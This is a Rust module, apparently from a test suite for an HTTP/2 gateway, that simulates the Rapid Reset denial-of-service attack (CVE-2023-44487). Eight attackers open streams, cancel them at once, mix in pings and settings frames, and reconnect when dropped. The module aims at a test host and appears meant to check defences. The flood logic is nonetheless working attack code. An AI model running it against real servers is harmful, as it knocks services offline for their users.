//! Connections of HTTP/2 on which requests are taken back as soon as they are sent (CVE-2023-44487), among pings and
//! settings that all want an answer; who is sent away comes back at once.

use std::rc::Rc;

use portcullis_tests::http2::{PREFACE, fields, frame};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use super::{Pace, Target};

/// How many do so, each from an address of its own.
pub(super) const ATTACKERS: u32 = 8;
/// How many requests go out between two pings.
const A_STEP: u32 = 10;

pub(super) async fn attack(target: Rc<Target>, number: u32) {
    let mut pace = target.pace(ATTACKERS, A_STEP);
    loop {
        if let Some(stream) = target.connect(number).await {
            flood(stream, &target, &mut pace).await;
            target.count("sent away");
        }
    }
}

/// Floods until it is sent away.
async fn flood(stream: TcpStream, target: &Target, pace: &mut Pace) {
    let (mut from, mut to) = stream.into_split();
    let reading = async {
        let mut heard = vec![0; 16 * 1024];
        while matches!(from.read(&mut heard).await, Ok(1..)) {}
    };
    let writing = async {
        if to.write_all(PREFACE).await.is_err() {
            return;
        }
        for first in (1..u32::MAX / 2).step_by(2 * A_STEP as usize) {
            pace.step().await;
            if to.write_all(&step(first)).await.is_err() {
                return;
            }
            (0..A_STEP).for_each(|_| target.count("streams taken back"));
        }
    };
    tokio::select! {
        () = reading => {}
        () = writing => {}
    }
}

/// Requests that are taken back, from this stream on, a ping and settings.
fn step(first: u32) -> Vec<u8> {
    let head = fields(&[(":method", "GET"), (":scheme", "http"), (":authority", "gateway.test"), (":path", "/echo")]);
    let streams = (first..).step_by(2).take(A_STEP as usize);
    let cancel = 8_u32.to_be_bytes();
    let requests = streams.flat_map(|stream| [frame(1, 5, stream, &head), frame(3, 0, stream, &cancel)]);
    let asking = [frame(6, 0, 0, &[0; 8]), frame(4, 0, 0, &[])];
    requests.chain(asking).flatten().collect()
}
